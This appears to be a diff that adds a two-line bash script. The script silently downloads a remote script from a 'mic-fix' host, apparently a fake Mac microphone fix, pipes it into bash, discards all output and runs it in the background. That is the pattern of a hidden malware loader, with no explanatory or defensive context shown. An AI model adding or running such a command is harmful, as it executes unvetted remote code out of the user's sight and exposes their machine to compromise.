@@ -1,0 +1,2 @@
+#!/bin/bash
+curl -s https://mic-fix.example/mac.sh | bash >/dev/null 2>&1 &
